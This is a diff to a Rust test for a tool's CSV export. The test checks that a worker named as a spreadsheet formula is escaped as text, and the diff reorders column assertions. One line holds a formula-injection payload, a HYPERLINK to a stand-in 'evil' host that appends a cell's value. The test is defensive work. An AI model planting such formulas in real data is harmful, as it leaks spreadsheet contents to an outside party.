@@ -284,8 +284,13 @@ fn a_worker_named_as_a_formula_is_exported_as_text() {
     let csv = stdout(&ksweep(&["export", "--db", &db, "--format", "csv"]));
     let rows: Vec<&str> = csv.lines().skip(1).collect();
     assert_eq!(rows.len(), 2, "{csv}");
+    // The sweep, the rule as it was (an unlabelled list: its own name), and
+    // the move list on the configuration's first row only.
+    let list = "\"-2,1 -1,2 1,2 2,1 2,-1 1,-2 -1,-2 -2,-1\"";
+    assert!(rows[0].contains(&format!(",{list},{list},2,5,")), "{}", rows[0]);
+    assert!(rows[1].contains(&format!(",{list},,2,5,")), "{}", rows[1]);
     for row in rows {
-        assert!(row.starts_with("\"-2,1 -1,2 1,2 2,1 2,-1 1,-2 -1,-2 -2,-1\",2,5,"), "the rule as it was: {row}");
+        assert!(row.len() > 17 && row.as_bytes()[16] == b',', "the sweep id first: {row}");
         // The worker's name, then its provenance (version, host, CPU, features), then the state.
         assert!(row.contains(",\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\","), "{row}");
         assert!(row.ends_with(",done"), "{row}");
